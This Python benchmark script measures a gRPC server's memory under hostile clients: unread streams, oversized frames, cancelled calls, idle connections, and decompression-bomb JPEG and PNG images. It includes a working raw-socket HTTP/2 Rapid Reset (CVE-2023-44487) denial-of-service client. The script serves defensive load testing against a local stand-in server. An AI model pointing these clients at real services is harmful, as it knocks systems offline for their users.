"""Memory of the cloud server while a client does its worst: what it takes above a server that has just begun.

python benchmarks/hostile_clients.py              # the shipped model; a server of its own for each row
python benchmarks/hostile_clients.py --only decode
"""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import click
import cv2
import grpc
import numpy as np
from numpy.typing import NDArray
from rich.console import Console
from rich.table import Table

from cloud_server.model.batching import Little
from cloud_server.server import CloudServer, ServerConfig
from edge_sdk.images.png import SIGNATURE, pack
from edge_sdk.types import Image, new_frame_id
from edge_sdk.wire import offload_pb2 as wire
from edge_sdk.wire import offload_pb2_grpc as wire_grpc

LIMIT_MB = 400
_CLASSIFY = f"/{wire.DESCRIPTOR.services_by_name['Offload'].full_name}/Classify"
_SPAWN = multiprocessing.get_context("spawn")
Client = Callable[[str], None]
_OPTIONS = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]


def stub(address: str) -> Any:
    """A client on a connection of its own."""
    return wire_grpc.OffloadStub(grpc.insecure_channel(address, options=_OPTIONS))


def together(count: int, work: Callable[[int], object]) -> None:
    """Run `work` on so many threads until the process is ended."""

    def quietly(number: int) -> None:
        with suppress(grpc.RpcError):
            work(number)

    for number in range(count):
        threading.Thread(target=quietly, args=(number,), daemon=True).start()
    threading.Event().wait()


def endless(make: Callable[[], wire.ClassifyRequest]) -> Iterator[wire.ClassifyRequest]:
    """Requests without end."""
    while True:
        yield make()


def unread(address: str, streams: int, make: Callable[[], wire.ClassifyRequest]) -> None:
    """Streams that send and never read."""

    def pump(number: int) -> None:
        replies = stub(address).Stream(endless(make))
        threading.Event().wait()
        next(replies)

    together(streams, pump)


def read(address: str, streams: int, make: Callable[[], wire.ClassifyRequest]) -> None:
    """Streams that send at full speed and read."""
    together(streams, lambda number: [None for _ in stub(address).Stream(endless(make))])


def calls(address: str, count: int, make: Callable[[], wire.ClassifyRequest]) -> None:
    """Single calls side by side on one connection, without end."""
    shared = stub(address)

    def one_after_another(number: int) -> None:
        while True:
            with suppress(grpc.RpcError):
                shared.Classify(make(), timeout=30)

    together(count, one_after_another)


def heavy_id() -> wire.ClassifyRequest:
    """8 MB, of which 7 are the frame's id."""
    return wire.ClassifyRequest(frame_id="0" * (7 << 20), image=bytes(1 << 20))


def heavy_image() -> wire.ClassifyRequest:
    """A JPEG of 8 MB, most of it comments."""
    comments = (b"\xff\xfe" + struct.pack(">H", 65_535) + bytes(65_533)) * 126
    return wire.ClassifyRequest(frame_id=new_frame_id(), image=_FLAT[:2] + comments + _FLAT[2:])


def same_image() -> wire.ClassifyRequest:
    """The same 8 MB under the same id, again and again."""
    request = heavy_image()
    request.frame_id = "0" * 32
    return request


def cancelled(address: str) -> None:
    """Calls with 8 MB each, left as soon as they are sent."""
    shared = stub(address)

    def leave(number: int) -> None:
        while True:
            call = shared.Classify.future(heavy_image())
            time.sleep(0.05)
            call.cancel()

    together(16, leave)


def rapid_reset(address: str) -> None:
    """Calls that are reset as soon as they are opened, as fast as one connection takes them (CVE-2023-44487)."""
    host, port = address.rsplit(":", 1)

    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload

    def literal(name: str, value: str) -> bytes:  # HPACK, RFC 7541, section 6.2.2: without indexing
        return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))

    fields = {":method": "POST", ":scheme": "http", ":path": _CLASSIFY, ":authority": address, "te": "trailers"}
    head = b"".join(literal(*one) for one in (fields | {"content-type": "application/grpc"}).items())

    def attack(number: int) -> None:
        while True:
            with suppress(OSError), socket.create_connection((host, int(port))) as link:
                link.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                threading.Thread(target=_swallow, args=(link,), daemon=True).start()
                for stream in range(1, 1 << 30, 200):
                    calls = range(stream, stream + 200, 2)
                    link.sendall(b"".join(frame(1, 4, one, head) + frame(3, 0, one, b"\0\0\0\x08") for one in calls))

    together(4, attack)


def _swallow(link: socket.socket) -> None:
    with suppress(OSError):
        while link.recv(1 << 16):
            pass


def idle(address: str) -> None:
    """1,000 connections with an open stream each, and nothing more."""
    held = []
    for _ in range(1000):
        held.append(stub(address).Stream(iter(threading.Event().wait, None)))
        time.sleep(0.005)
    threading.Event().wait()


def jpeg(*flags: int) -> bytes:
    """32 megapixels of noise in blocks, small as a file."""
    image = np.repeat(np.repeat(np.random.default_rng(0).integers(0, 255, (62, 126, 3), np.uint8), 64, 0), 64, 1)
    return bytes(cv2.imencode(".jpg", image[:3968, :8000], [cv2.IMWRITE_JPEG_QUALITY, 50, *flags])[1])


def png() -> bytes:
    """32 megapixels of 16 bits and alpha: a small file that unpacks to 250 MB."""
    width, height = 8000, 3900
    rows = zlib.compressobj(9)
    data = b"".join([*(rows.compress(bytes(1 + 8 * width)) for _ in range(height)), rows.flush()])
    head = struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0)
    return SIGNATURE + pack(b"IHDR", head) + pack(b"IDAT", data) + pack(b"IEND", b"")


_FLAT = bytes(cv2.imencode(".jpg", np.zeros((72, 96, 3), np.uint8))[1])


def pictures_of(data: bytes) -> Callable[[], wire.ClassifyRequest]:
    """Requests with this picture."""
    return lambda: wire.ClassifyRequest(frame_id=new_frame_id(), image=data)


def describes(address: str) -> None:
    """Descriptions asked for side by side."""
    shared = stub(address)

    def ask(number: int) -> None:
        while True:
            with suppress(grpc.RpcError):
                shared.Describe(wire.DescribeRequest())

    together(128, ask)


CASES: dict[str, Client] = {
    "16 streams, 8 MB ids, replies unread": lambda address: unread(address, 16, heavy_id),
    "16 streams, 8 MB pictures, replies unread": lambda address: unread(address, 16, heavy_image),
    "16 streams, small frames, replies unread": lambda address: unread(address, 16, pictures_of(_FLAT)),
    "128 single calls of 8 MB side by side": lambda address: calls(address, 128, heavy_image),
    "16 streams repeat one frame of 8 MB": lambda address: read(address, 16, same_image),
    "16 calls of 8 MB, cancelled after 50 ms": cancelled,
    "4 connections open calls and reset them at once": rapid_reset,
    "1,000 idle connections": idle,
    "decode: 16 streams, JPEG of 32 megapixels": lambda address: read(address, 16, pictures_of(jpeg())),
    "decode: the same, progressive 4:4:4": lambda address: read(
        address, 16, pictures_of(jpeg(cv2.IMWRITE_JPEG_PROGRESSIVE, 1, cv2.IMWRITE_JPEG_SAMPLING_FACTOR, 0x111111))
    ),
    "decode: 16 streams, PNG of 16 bits and alpha": lambda address: read(address, 16, pictures_of(png())),
    "128 descriptions side by side": describes,
}


class StandIn:
    """A big model of no weight: what is measured is the server."""

    name, device, fingerprint = "stand-in", "cpu", "stand-in"
    labels = tuple(f"class {number}" for number in range(1000))
    input_width = input_height = 224
    macs, parameters = 1000, 1

    def __init__(self, seconds: float = 0.0) -> None:
        self._seconds = seconds

    def prepare(self, image: Image) -> Image:
        """Bring a picture to the input size."""
        return np.asarray(cv2.resize(image, (224, 224)), np.uint8)

    def run(self, images: Sequence[Image], little: Sequence[Little]) -> tuple[NDArray[np.float32], NDArray[np.int64]]:
        """Take as long for a batch as for a frame, and name the first class."""
        time.sleep(self._seconds)
        rows = np.full((len(images), len(self.labels)), 0.0001, np.float32)
        rows[:, 0] = 0.9
        return rows, np.full(len(images), self.macs, np.int64)


def serve(pipe: Connection, seconds: float, **config: Any) -> None:
    """Entry of a server's process; sends its address."""
    cv2.setNumThreads(1)

    async def forever() -> None:
        async with CloudServer(ServerConfig(port=0, **config), StandIn(seconds)) as server:
            pipe.send(server.address)
            await asyncio.Event().wait()

    asyncio.run(forever())


@contextmanager
def stand_in_server(seconds: float = 0.0, **config: Any) -> Iterator[tuple[int, str]]:
    """A server in a process of its own: process id and address."""
    here, there = _SPAWN.Pipe()
    process = _SPAWN.Process(target=serve, args=(there, seconds), kwargs=config, daemon=True)
    process.start()
    try:
        yield process.pid or 0, here.recv()
    finally:
        process.kill()
        process.join()


def rss_mb(pid: int) -> float:
    """Resident memory of a process."""
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGESIZE") / 1e6


def peak_mb(name: str, seconds: float) -> tuple[float, float]:
    """Resident memory before a case, and the most while it lasts."""
    with stand_in_server() as (pid, address):
        before = top = rss_mb(pid)
        client = _SPAWN.Process(target=run_client, args=(name, address), daemon=True)
        client.start()
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            time.sleep(0.02)
            top = max(top, rss_mb(pid))
        client.kill()
        client.join()
    return before, top


def run_client(name: str, address: str) -> None:
    """Entry of the client's process."""
    CASES[name](address)


@click.command()
@click.option("--seconds", default=20.0, show_default=True, help="For each row.")
@click.option("--only", default="", help="Rows whose name has this in it.")
def main(seconds: float, only: str) -> None:
    """Print the server's peak memory under each kind of client."""
    table = Table("client", "at first, MB", "peak, MB", "above, MB", f"at most {LIMIT_MB}", title="server memory")
    for name in CASES:
        if only in name:
            before, top = peak_mb(name, seconds)
            above = top - before
            table.add_row(name, f"{before:.0f}", f"{top:.0f}", f"{above:.0f}", "yes" if above <= LIMIT_MB else "no")
    Console(width=120).print(table)


if __name__ == "__main__":
    main()
